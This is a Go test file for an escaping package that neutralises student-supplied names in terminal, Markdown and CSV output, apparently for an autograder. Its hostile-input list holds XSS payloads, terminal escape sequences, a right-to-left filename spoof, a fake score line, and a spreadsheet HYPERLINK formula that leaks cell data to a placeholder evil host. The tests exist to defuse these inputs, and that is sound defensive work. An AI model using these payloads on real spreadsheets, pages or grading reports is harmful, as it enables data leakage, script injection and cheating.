package escape

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// hostile are names a student may give their submission, or an entry of
// its archive.
var hostile = []string{
	"honest\n# You got 281/281",
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"-1+1",
	"+1",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"\x1b[2Jcleared",
	"evil\u202etxt.exe",
	"[click](http://evil.example)",
	"![img](x.png)",
	"www.evil.example",
	"**bold** _it_ ~~gone~~ `code`",
	"a\rb\r\nc\x00d\xffe\u2028f",
	"```\n# out of the fence\n```",
	"иванов",
	"",
}

func TestLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{"иванов ünïcödé 名前", "иванов ünïcödé 名前"},
		{"honest\n# You got 281/281", `honest\n# You got 281/281`},
		{"\x1b[2J", `\x1b[2J`},
		{"a\tb\rc\x00d\x7f", `a\tb\rc\x00d\x7f`},
		{"evil\u202etxt.exe", `evil\u202etxt.exe`},
		{"zero\u200bwidth", `zero\u200bwidth`},
		{"csi\u009b2J", `csi\u009b2J`},
		{"bad\xff\xfeutf8", `bad\xff\xfeutf8`},
		{"nbsp\u00a0", `nbsp\u00a0`},
		{`back\slash`, `back\slash`},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := Line(tt.in); got != tt.want {
				t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	for _, s := range hostile {
		assertShown(t, "Line", s, Line(s), false)
	}
}

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a\nb\tc", "a\nb\tc"},
		{"crlf\r\nline", "crlf\nline"},
		{"lone\r# heading", `lone\r# heading`},
		{"\x1b[31mred\x1b[0m\n", "\\x1b[31mred\\x1b[0m\n"},
		{"rtl\u202e\n", "rtl\\u202e\n"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Text(tt.in); got != tt.want {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	for _, s := range hostile {
		assertShown(t, "Text", s, Text(s), true)
	}
}

// assertShown checks that out, what f made of in, has nothing a terminal
// or a Markdown renderer would not show as itself.
func assertShown(t *testing.T, f, in, out string, multiline bool) {
	t.Helper()
	for _, r := range out {
		switch {
		case multiline && (r == '\n' || r == '\t'):
		case r == '\uFFFD' && !strings.ContainsRune(in, '\uFFFD'):
			t.Errorf("%s(%q) = %q: a byte that is not UTF-8 was replaced, not shown", f, in, out)
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u202e' || r == '\u2028' || r == '\u200b':
			t.Errorf("%s(%q) = %q: has %U", f, in, out, r)
		}
	}
}

func TestMarkdown(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{"иванов", "иванов"},
		{"honest\n# You got 281/281", `honest\\n\# You got 281/281`},
		{"<script>alert(1)</script>", `\<script\>alert\(1\)\</script\>`},
		{"[click](http://evil.example)", `\[click\]\(http\://evil\.example\)`},
		{"![img](x.png)", `\!\[img\]\(x\.png\)`},
		{"**bold** _it_", `\*\*bold\*\* \_it\_`},
		{"a `b` c", "a \\`b\\` c"},
		{"www.evil.example", `www\.evil\.example`},
		{"&lt;", `\&lt;`},
		{"a | b", `a \| b`},
		{"=1+1", `\=1\+1`},
		{"evil\u202etxt", `evil\\u202etxt`},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Markdown(tt.in); got != tt.want {
				t.Errorf("Markdown(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	for _, s := range hostile {
		got := Markdown(s)
		assertShown(t, "Markdown", s, got, false)
		// Every special character is escaped: a backslash escapes the
		// character after it, and no special one is left bare.
		for i := 0; i < len(got); i++ {
			if got[i] == '\\' {
				i++
				if i == len(got) || !strings.ContainsRune(markdownSpecial, rune(got[i])) {
					t.Errorf("Markdown(%q) = %q: a backslash at %d escapes nothing", s, got, i-1)
				}
				continue
			}
			if strings.IndexByte(markdownSpecial, got[i]) >= 0 {
				t.Errorf("Markdown(%q) = %q: %q at %d is not escaped", s, got, got[i], i)
			}
		}
	}
}

func TestMarkdownCode(t *testing.T) {
	tests := []struct{ in, want string }{
		{"adder.go", "`adder.go`"},
		{"", ""},
		{"a`b", "``a`b``"},
		{"`x", "`` `x ``"},
		{"x``", "``` x`` ```"},
		{" x", "`  x `"},
		{"exercises/a\n# You got 281/281.go", "`exercises/a\\n# You got 281/281.go`"},
		{"<b>x</b>", "`<b>x</b>`"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := MarkdownCode(tt.in); got != tt.want {
				t.Errorf("MarkdownCode(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	for _, s := range hostile {
		got := MarkdownCode(s)
		if s == "" {
			continue
		}
		assertShown(t, "MarkdownCode", s, got, false)
		// The delimiter is the first run of backticks; the span must end
		// exactly at the end, and no run inside may be as long.
		d := len(got) - len(strings.TrimLeft(got, "`"))
		inner := got[d : len(got)-d]
		if !strings.HasSuffix(got, strings.Repeat("`", d)) || longestRun(inner, '`') >= d {
			t.Errorf("MarkdownCode(%q) = %q: the span can be closed early", s, got)
		}
	}
}

func TestMarkdownBlock(t *testing.T) {
	tests := []struct {
		in, indent, want string
	}{
		{"a\nb\n", "", "```\na\nb\n```\n"},
		{"x ``` y", "  ", "  ````\n  x ``` y\n  ````\n"},
		{"```\n# out\n```", "", "````\n```\n# out\n```\n````\n"},
		{"line\r# heading", "  ", "  ```\n  line\\r# heading\n  ```\n"},
		{"crlf\r\nok", "", "```\ncrlf\nok\n```\n"},
		{"\x1b[2J\tgo", "", "```\n\\x1b[2J\tgo\n```\n"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := MarkdownBlock(tt.in, tt.indent); got != tt.want {
				t.Errorf("MarkdownBlock(%q, %q) =\n%s\nwant:\n%s", tt.in, tt.indent, got, tt.want)
			}
		})
	}
	for _, s := range hostile {
		got := MarkdownBlock(s, "  ")
		lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
		fence := strings.TrimSpace(lines[0])
		for i, l := range lines {
			if !strings.HasPrefix(l, "  ") {
				t.Errorf("MarkdownBlock(%q): line %d %q leaves the list item", s, i, l)
			}
			if strings.ContainsRune(l, '\r') {
				t.Errorf("MarkdownBlock(%q): line %d %q has a CR", s, i, l)
			}
			if i > 0 && i < len(lines)-1 && strings.HasPrefix(strings.TrimSpace(l), fence) {
				t.Errorf("MarkdownBlock(%q): line %d %q closes the fence %q", s, i, l, fence)
			}
		}
		if strings.TrimSpace(lines[len(lines)-1]) != fence {
			t.Errorf("MarkdownBlock(%q) does not end with its fence:\n%s", s, got)
		}
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{"12", "12"},
		{"", ""},
		{"=HYPERLINK(\"http://evil.example\")", "'=HYPERLINK(\"http://evil.example\")"},
		{"-1+1", "'-1+1"},
		{"+1", "'+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := CSVCell(tt.in); got != tt.want {
				t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCSV(t *testing.T) {
	tests := []struct {
		name string
		rows [][]string
		want string
	}{
		{"plain", [][]string{{"student", "score"}, {"alice", "3"}}, "student,score\nalice,3\n"},
		{"formula", [][]string{{"=1+1", "3"}}, "\"'=1+1\",3\n"},
		{"hyperlink", [][]string{{`=HYPERLINK("http://x","y")`}}, "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n"},
		{"minus and at", [][]string{{"-1+1", "@SUM(A1)"}}, "\"'-1+1\",\"'@SUM(A1)\"\n"},
		{"tab and CR", [][]string{{"\t=1", "\r=1"}}, "\"'\t=1\",\"'\r=1\"\n"},
		{"comma and newline", [][]string{{"a,b", "c\nd", " e"}}, "\"a,b\",\"c\nd\",\" e\"\n"},
		{"empty", [][]string{{"", "x"}}, ",x\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := CSV(tt.rows)
			if string(got) != tt.want {
				t.Errorf("CSV:\n%q\nwant:\n%q", got, tt.want)
			}
			// A CSV reader reads back each cell, defused.
			back, err := csv.NewReader(strings.NewReader(string(got))).ReadAll()
			if err != nil {
				t.Fatalf("encoding/csv cannot read it: %v", err)
			}
			for i, row := range tt.rows {
				want := make([]string, len(row))
				for j, c := range row {
					want[j] = CSVCell(c)
				}
				// encoding/csv reads a CR LF inside quotes as LF; none here.
				if !slices.Equal(back[i], want) {
					t.Errorf("row %d reads back as %q, want %q", i, back[i], want)
				}
			}
		})
	}
	for _, s := range hostile {
		back, err := csv.NewReader(strings.NewReader(string(CSV([][]string{{s, "1"}})))).Read()
		if err != nil {
			t.Errorf("%q: %v", s, err)
			continue
		}
		if c := back[0]; c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
			t.Errorf("%q reads back as %q: a formula", s, c)
		}
	}
}
